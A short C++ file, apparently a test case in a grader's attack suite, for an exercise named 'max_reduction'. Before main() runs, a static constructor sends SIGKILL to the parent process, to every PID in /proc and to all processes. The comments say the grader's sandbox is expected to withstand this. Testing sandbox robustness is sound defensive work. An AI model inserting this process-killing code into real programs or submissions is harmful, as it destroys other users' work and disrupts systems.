// attack: before main(), kill the parent, every process in sight, and every process of its own user.
//         As root, grade runs it as a user that owns nothing else, so nothing dies, and the solved
//         exercise keeps its points.
// exercise: max_reduction
// base: solution
// earns: as the solution
namespace {
struct KillEverything {
  KillEverything() {
    kill(getppid(), SIGKILL);
    for (const std::string& pid : attack::numbered("/proc"))
      if (std::atoi(pid.c_str()) != getpid()) kill(std::atoi(pid.c_str()), SIGKILL);
    kill(-1, SIGKILL);
  }
} kill_everything;
}  // namespace
